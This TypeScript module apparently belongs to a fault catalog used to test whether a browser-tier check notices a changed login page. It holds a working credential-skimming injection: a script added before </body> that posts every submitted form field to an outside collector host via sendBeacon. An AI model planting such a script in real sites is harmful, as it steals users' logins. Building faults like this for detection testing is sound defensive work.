import type { FaultFile } from './catalog.ts';
import { collector, withLoginPages } from './collector.ts';

export default {
  what: 'a script of the login page sends what is typed to another host, when the form is sent',
  handlers: withLoginPages((text) =>
    text.replace(
      '</body>',
      `<script>document.forms[0].addEventListener('submit', (sent) => navigator.sendBeacon('${collector}/beacon', new URLSearchParams(new FormData(sent.target))))</script></body>`,
    ),
  ),
  drift: { class: 'login-changed', tiers: ['browser'] },
} satisfies FaultFile;
